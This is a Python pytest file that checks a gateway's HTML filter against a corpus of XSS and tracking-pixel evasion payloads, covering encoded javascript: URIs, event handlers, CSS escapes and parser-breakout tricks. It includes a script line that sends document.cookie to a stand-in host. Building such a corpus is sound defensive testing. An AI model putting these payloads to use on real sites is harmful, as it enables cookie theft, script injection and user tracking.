"""Hostile HTML and CSS from the well-known evasion lists: nothing may leave the gateway.

Each case is our own wording of a technique from the XSS filter-evasion and
tracking-pixel lists (OWASP's cheat sheet, the HTML5 Security Cheatsheet):
encodings and case games on ``javascript:``, every attribute that loads, every
element that embeds, CSS escapes and comments, and parser-confusion tricks.
Every output is handed to the independent checker in ``leakcheck``.
"""

from __future__ import annotations

import pytest

from node.gateway.filter import Disposition, filter_content
from tests.node.gateway.helpers import BASE
from tests.node.gateway.leakcheck import check_html

EVIL = "http://tracker.example/p.gif"

CORPUS: dict[str, str] = {
    "script": "<script>new Image().src='http://x/'+document.cookie</script>",
    "script-src": '<script src="http://x/a.js"></script>',
    "script-mixed-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-split": "<scr<script>ipt>alert(1)</script>",
    "js-href": '<a href="javascript:alert(1)">x</a>',
    "js-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "js-entity-tab": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "js-entity-decimal": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:x">x</a>'
    ),
    "js-entity-nosemicolon": '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
    "js-entity-hex-long": '<a href="&#x6A&#x61&#x76&#x61script:x">x</a>',
    "js-newline": '<a href="java\nscript:alert(1)">x</a>',
    "js-leading-space": '<a href=" \x01javascript:alert(1)">x</a>',
    "js-null": '<a href="java\x00script:alert(1)">x</a>',
    "js-img-src": '<img src="javascript:alert(1)">',
    "js-img-noquotes": "<IMG SRC=javascript:alert('XSS')>",
    "js-grave": "<img src=`javascript:alert(1)`>",
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data-image": '<img src="data:image/png;base64,iVBORw0KGgo=">',
    "onerror": f"<img src=x onerror=\"this.src='{EVIL}'\">",
    "onload-body": '<body onload="alert(1)">',
    "onmouseover-unquoted": "<a onmouseover=alert(1)>x</a>",
    "event-slash": "<img/src=x/onerror=alert(1)>",
    "img-external": f'<img src="{EVIL}">',
    "img-protocol-relative": '<img src="//tracker.example/p.gif">',
    "img-backslashes": '<img src="\\\\tracker.example\\p.gif">',
    "img-slash-backslash": '<img src="/\\tracker.example/p.gif">',
    "img-http-no-slashes": '<img src="http:tracker.example/p.gif">',
    "img-https": '<img src="HTTPS://tracker.example/p.gif">',
    "img-ftp": '<img src="ftp://tracker.example/p.gif">',
    "img-srcset": f'<img src="a.png" srcset="{EVIL} 1x, {EVIL} 2x">',
    "img-lowsrc-dynsrc": f'<img lowsrc="{EVIL}" dynsrc="{EVIL}">',
    "img-longdesc": f'<img src="a.png" longdesc="{EVIL}">',
    "picture-source-srcset": f'<picture><source srcset="{EVIL}"><img src="a.png"></picture>',
    "input-image": f'<input type="image" src="{EVIL}">',
    "body-background": f'<body background="{EVIL}">text</body>',
    "table-background": (
        f'<table background="{EVIL}"><tr><td background="{EVIL}">x</td></tr></table>'
    ),
    "video-poster": f'<video poster="{EVIL}" src="//x/v.webm"></video>',
    "audio-src": '<audio src="http://x/a.ogg"></audio>',
    "source-track": '<video><source src="http://x/v"><track src="http://x/t.vtt"></video>',
    "a-ping": f'<a href="page.html" ping="{EVIL}">x</a>',
    "link-stylesheet-external": '<link rel="stylesheet" href="http://x/s.css">',
    "link-prefetch": f'<link rel="prefetch" href="{EVIL}">',
    "link-preconnect": '<link rel="preconnect" href="https://tracker.example">',
    "link-dns-prefetch": '<link rel="dns-prefetch" href="//tracker.example">',
    "link-preload": f'<link rel="preload" as="image" href="{EVIL}" imagesrcset="{EVIL} 1x">',
    "link-icon": f'<link rel="icon" href="{EVIL}">',
    "link-import": '<link rel="import" href="http://x/i.html">',
    "link-stylesheet-case": '<link rel="STYLESHEET alternate" href="http://x/s.css">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=http://x/">',
    "meta-refresh-case": '<META HTTP-EQUIV="Refresh" CONTENT="0; URL=javascript:alert(1)">',
    "meta-set-cookie": '<meta http-equiv="Set-Cookie" content="a=b">',
    "meta-csp": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "meta-referrer": '<meta name="referrer" content="unsafe-url">',
    "base-href": '<base href="http://x/"><img src="a.png">',
    "form-action": '<form action="http://x/collect" method="post"><input name=a></form>',
    "form-js": '<form action="javascript:alert(1)"><button>go</button></form>',
    "formaction": '<form><button formaction="http://x/">go</button></form>',
    "input-formaction": '<input type=submit formaction="http://x/">',
    "iframe": '<iframe src="http://x/"></iframe>',
    "iframe-srcdoc": f"<iframe srcdoc=\"<img src='{EVIL}'>\"></iframe>",
    "frameset": '<frameset><frame src="http://x/"></frameset>',
    "object-data": '<object data="http://x/a.swf"><param name=movie value="http://x/a.swf"></object>',
    "object-classid": '<object classid="clsid:x" codebase="http://x/"></object>',
    "embed": '<embed src="http://x/a.swf">',
    "applet": '<applet code="A" archive="http://x/a.jar"></applet>',
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-use": '<svg><use href="http://x/s.svg#a"/><use xlink:href="http://x/s.svg#b"/></svg>',
    "svg-image": f'<svg><image href="{EVIL}"/></svg>',
    "svg-a": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg-foreignobject": f'<svg><foreignObject><img src="{EVIL}"></foreignObject></svg>',
    "svg-style": f"<svg><style>*{{background:url({EVIL})}}</style></svg>",
    "math-href": '<math href="javascript:alert(1)"><mi xlink:href="http://x">x</mi></math>',
    "math-mtext-mxss": f'<math><mtext><table><mglyph><style><img src="{EVIL}">',
    "style-attr-url": f'<div style="background:url({EVIL})">x</div>',
    "style-attr-quoted": f"<div style=\"background-image: url('{EVIL}')\">x</div>",
    "style-attr-escape": '<div style="background:\\75 rl(http://x/)">x</div>',
    "style-attr-escape-entity": '<div style="background:&#92;75rl(http://x/)">x</div>',
    "style-attr-comment": '<div style="background:u/**/rl(http://x/)">x</div>',
    "style-attr-expression": '<div style="width:expression(alert(1))">x</div>',
    "style-attr-expression-escaped": '<div style="width:expr\\65ssion(alert(1))">x</div>',
    "style-attr-behavior": '<div style="behavior:url(http://x/a.htc)">x</div>',
    "style-attr-binding": '<div style="-moz-binding:url(http://x/b.xml#x)">x</div>',
    "style-attr-image-set": f"<div style=\"background:image-set('{EVIL}' 1x)\">x</div>",
    "style-attr-webkit-image-set": f'<div style="background:-webkit-image-set(url({EVIL}) 1x)">',
    "style-attr-cursor": f'<div style="cursor:url({EVIL}),auto">x</div>',
    "style-attr-list": f'<ul style="list-style:url({EVIL})"><li>x</li></ul>',
    "style-element-import": '<style>@import "http://x/s.css";</style>',
    "style-element-import-url": "<style>@import url(//x/s.css) screen;</style>",
    "style-element-import-escaped": '<style>@\\69mport "http://x/s.css";</style>',
    "style-element-import-chain": '<style>@import "a.css"; @import url("http://x/b.css");</style>',
    "style-element-font-face": "<style>@font-face{font-family:f;src:url(http://x/f.woff)}</style>",
    "style-element-namespace": "<style>@namespace url(http://x/ns);</style>",
    "style-element-charset": '<style>@charset "utf-7"; a{background:url(http://x)}</style>',
    "style-element-breakout": f"<style>a{{content:'</style><img src={EVIL}>'}}</style>",
    "style-element-comment-breakout": f"<style>/* </style><img src={EVIL}> */</style>",
    "style-element-media": f"<style>@media screen{{a{{background:url({EVIL})}}}}</style>",
    "style-element-supports": f"<style>@supports (x:y){{b{{background:url({EVIL})}}}}</style>",
    "style-element-nested": f"<style>a{{color:red;&:hover{{background:url({EVIL})}}}}</style>",
    "style-element-keyframes": f"<style>@keyframes k{{from{{background:url({EVIL})}}}}</style>",
    "style-element-document": "<style>@-moz-document url-prefix(http://x){a{color:red}}</style>",
    "style-element-unclosed-url": f"<style>a{{background:url({EVIL}",
    "style-element-bad-url": "<style>a{background:url(http://x/a b)}</style>",
    "style-element-var": f"<style>a{{--u:'{EVIL}';background:image-set(var(--u) 1x)}}</style>",
    "style-element-src": f"<style>a{{background:src('{EVIL}')}}</style>",
    "style-element-image": f"<style>a{{background:image('{EVIL}')}}</style>",
    "style-element-cdo": f"<style><!-- a{{background:url({EVIL})}} --></style>",
    "style-element-newline-escape": "<style>a{background:u\\\nrl(http://x)}</style>",
    "style-element-ms-filter": "<style>a{-ms-filter:\"progid:DXImageTransform.Microsoft.AlphaImageLoader(src='http://x')\"}</style>",
    "html-comment": f"<!-- <img src='{EVIL}'> --><p>x</p>",
    "html-comment-conditional": f"<!--[if IE]><img src='{EVIL}'><![endif]-->",
    "cdata": f"<![CDATA[<img src='{EVIL}'>]]>",
    "unclosed-tag": f'<img src="{EVIL}"',
    "unclosed-attr": f'<img src="a.png" alt="x><img src={EVIL}>',
    "null-in-tag": f"<im\x00g src='{EVIL}'>",
    "null-in-attr-name": f"<img s\x00rc='{EVIL}'>",
    "noscript-mxss": f'<noscript><p title="</noscript><img src={EVIL}>"></noscript>',
    "textarea-breakout": f"<textarea></textarea><img src='{EVIL}'></textarea>",
    "title-breakout": f"<title></title><img src='{EVIL}'></title>",
    "xmp": f"<xmp><img src='{EVIL}'></xmp>",
    "plaintext": f"<plaintext><img src='{EVIL}'>",
    "template": f"<template><img src='{EVIL}'></template>",
    "isindex": '<isindex action="http://x/" type=image src="http://x/">',
    "bgsound": '<bgsound src="http://x/a.wav">',
    "area-href": '<map name=m><area href="http://x/" shape=rect coords="0,0,1,1"></map>',
    "blockquote-cite": '<blockquote cite="http://x/">q</blockquote>',
    "a-freenet-fake": '<a href="freenet:http://x/">x</a>',
    "a-key-dot-escape": '<a href="/KSK@x/../../queue">x</a>',
    "a-key-encoded-dots": '<a href="/KSK@x/%2e%2e/%2E%2E/peers">x</a>',
    "a-encoded-slash": '<a href="/KSK@x%2f..%2f..%2fpeers">x</a>',
    "a-gateway-query": '<a href="/KSK@x/page?filter=off">x</a>',
    "img-gateway-page": '<img src="/queue/cancel?id=1">',
    "img-relative-escape": '<img src="../../../../peers">',
    "a-unicode-scheme": '<a href="ｊavascript:alert(1)">x</a>',
    "a-tab-in-scheme": '<a href="h\ttp://x/">x</a>',
    "svg-in-img": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "dir-attr-url": '<div itemtype="http://x/schema">x</div>',
    "srcdoc-on-div": f"<div srcdoc=\"<img src='{EVIL}'>\">x</div>",
    "xlink-on-a": '<a xlink:href="http://x/">x</a>',
    "deep-nesting-style": "<div>" * 50 + f"<style>a{{background:url({EVIL})}}</style>",
}


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_hostile_html_cannot_reach_outside(name: str) -> None:
    result = filter_content(CORPUS[name].encode(), "text/html", base_path=BASE)
    assert result.disposition is Disposition.INLINE
    assert result.mime_type == "text/html; charset=utf-8"
    html = result.data.decode("utf-8")
    check_html(html)
    lowered = html.lower()
    for needle in ("<script", "expression("):
        assert needle not in lowered, (needle, html)


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_filtering_twice_changes_nothing(name: str) -> None:
    once = filter_content(CORPUS[name].encode(), "text/html", base_path=BASE).data
    twice = filter_content(once, "text/html", base_path=BASE).data
    assert once == twice


def test_external_links_go_to_the_warning_page() -> None:
    html = filter_content(
        b'<a href="https://example.org/a?b=c">x</a><a href="//h/">y</a><a href="mailto:a@b">z</a>',
        "text/html",
        base_path=BASE,
    ).data.decode()
    assert 'href="/external-link?url=https%3A%2F%2Fexample.org%2Fa%3Fb%3Dc"' in html
    assert 'href="/external-link?url=%2F%2Fh%2F"' in html
    assert 'href="/external-link?url=mailto%3Aa%40b"' in html
    check_html(html)
